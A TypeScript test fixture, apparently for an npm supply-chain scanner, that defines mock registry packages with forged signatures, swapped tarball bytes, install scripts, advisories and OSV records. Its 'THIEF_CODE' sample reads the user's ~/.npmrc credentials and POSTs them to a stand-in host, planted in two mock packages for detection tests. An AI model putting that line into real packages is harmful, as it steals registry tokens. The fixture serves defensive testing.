import { packageOf } from '../../artifacts/make-tarball.js';
import { integrityOf, packument, type RawPackument, type VersionDraft } from '../../support/packuments.js';
import { signingKey } from '../../support/signing-keys.js';
import type { BulkAdvisory } from '../../support/registry-server.js';
import type { RawOsvRecord } from '../../support/osv-server.js';

/** The moment at which all runs begin. */
export const START = Date.UTC(2026, 5, 1);

const HOUR_MS = 3_600_000;
const hoursAgo = (hours: number): string => new Date(START - hours * HOUR_MS).toISOString();

const CALM_CODE = { 'index.js': "'use strict';\nmodule.exports = (value) => String(value).trim();\n" };
/** Inert: nothing of it is ever run, and its address leads nowhere. */
const THIEF_CODE = {
  'index.js':
    "const fs = require('fs'); const https = require('https');\n" +
    "https.request('https://collect.invalid/', { method: 'POST' }).end(fs.readFileSync(process.env.HOME + '/.npmrc'));\n",
};

interface Published {
  readonly versions: Readonly<Record<string, VersionDraft>>;
  readonly code?: Readonly<Record<string, string>>;
  /** Of the newest version. */
  readonly signature?: 'valid' | 'forged';
}

/** What the registry of the runs has, by name. The newest version is the one that projects use. */
const PUBLISHED: Readonly<Record<string, Published>> = {
  calm: { versions: { '1.0.0': {} } },
  flawed: { versions: { '1.0.0': {} } },
  accepted: { versions: { '1.0.0': {} } },
  leaky: { versions: { '1.0.0': {} } },
  thief: { versions: { '1.0.0': {} }, code: THIEF_CODE },
  evil: { versions: { '1.0.0': {} } },
  worse: { versions: { '1.0.0': {} } },
  fresh: { versions: { '1.0.0': {}, '1.1.0': { published: hoursAgo(10) } } },
  loose: { versions: { '1.0.0': { deprecated: 'use calm instead' } } },
  scripted: {
    versions: { '1.0.0': { scripts: { postinstall: 'node setup.js' } } },
    code: { 'setup.js': '// nothing\n' },
  },
  parent: { versions: { '1.0.0': { dependencies: { 'deep-flaw': '^1.0.0', 'deep-thief': '^1.0.0' } } } },
  'deep-flaw': { versions: { '1.0.0': {} } },
  'deep-thief': { versions: { '1.0.0': { published: hoursAgo(150) } }, code: THIEF_CODE },
  signed: { versions: { '1.0.0': {} }, signature: 'valid' },
  forged: { versions: { '1.0.0': {} }, signature: 'forged' },
  swapped: { versions: { '1.0.0': {} } },
};

/** Names that a project of the runs may have a line for; nobody has published `gone`. */
export const LINES: readonly string[] = [...Object.keys(PUBLISHED).filter((name) => !name.startsWith('deep-')), 'gone'];

/** What `parent` brings along. */
export const DEEP: readonly string[] = ['deep-flaw', 'deep-thief'];

const KEY = signingKey('SHA256:faults');

export function newestOf(name: string): string {
  return Object.keys(PUBLISHED[name]?.versions ?? {}).at(-1) ?? '1.0.0';
}

export const KEYS = [KEY.listed];

function bytesOf(name: string, version: string): Buffer {
  const { versions, code } = PUBLISHED[name] ?? { versions: {} };
  const manifest = Object.entries(versions[version] ?? {}).filter(([field]) => field !== 'published');
  return packageOf({ name, version, main: 'index.js', ...Object.fromEntries(manifest) }, { ...CALM_CODE, ...code });
}

export const TARBALLS: Readonly<Record<string, Buffer>> = Object.fromEntries(
  Object.entries(PUBLISHED).flatMap(([name, { versions }]) =>
    Object.keys(versions).map((version) => [`${name}@${version}`, bytesOf(name, version)] as const),
  ),
);

/** As the lockfiles of the runs have it; somebody has put other bytes in the place of `swapped`. */
export function lockedIntegrityOf(name: string): string {
  return integrityOf(name === 'swapped' ? 'other bytes' : (TARBALLS[`${name}@${newestOf(name)}`] ?? ''));
}

export const PACKUMENTS: readonly RawPackument[] = Object.entries(PUBLISHED).map(([name, { versions, signature }]) => {
  const signed = Object.entries(versions).map(([version, draft]): [string, VersionDraft] => {
    if (signature === undefined) return [version, draft];
    const integrity = integrityOf(TARBALLS[`${name}@${version}`] ?? '');
    const signatures = [KEY.sign(signature === 'valid' ? name : 'another', version, integrity)];
    return [version, { ...draft, dist: { signatures } }];
  });
  return packument(name, Object.fromEntries(signed));
});

const flaw = (id: number, name: string): BulkAdvisory => ({
  id,
  url: `https://github.com/advisories/GHSA-aaaa-bbbb-c${String(id).padStart(3, '2')}`,
  title: `A flaw of ${name}`,
  severity: 'high',
  vulnerable_versions: '<2.0.0',
});

export const ADVISORIES: Readonly<Record<string, readonly BulkAdvisory[]>> = {
  flawed: [flaw(22, 'flawed')],
  accepted: [flaw(33, 'accepted')],
  'deep-flaw': [flaw(44, 'deep-flaw')],
};

const osvRecord = (id: string, name: string): RawOsvRecord => ({
  id,
  modified: '2026-01-01T00:00:00Z',
  summary: `About ${name}`,
  affected: [
    {
      package: { ecosystem: 'npm', name },
      ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }, { fixed: '2.0.0' }] }],
    },
  ],
  database_specific: { severity: 'HIGH' },
});

export const OSV_RECORDS: readonly RawOsvRecord[] = [
  osvRecord('GHSA-35jh-r3h4-6jhm', 'leaky'),
  osvRecord('GHSA-35jh-r3h4-7jhm', 'leaky'),
  osvRecord('MAL-2026-7', 'worse'),
];

export const POLICY = {
  accept: [
    {
      package: 'accepted@1.0.0',
      rule: 'known-vulnerability',
      reason: 'Only our own build calls it.',
      expires: '2099-12-31',
    },
  ],
};

export const DOWNLOADS: Readonly<Record<string, number>> = Object.fromEntries(
  Object.keys(PUBLISHED).map((name, index) => [name, 1000 * (index + 1)]),
);
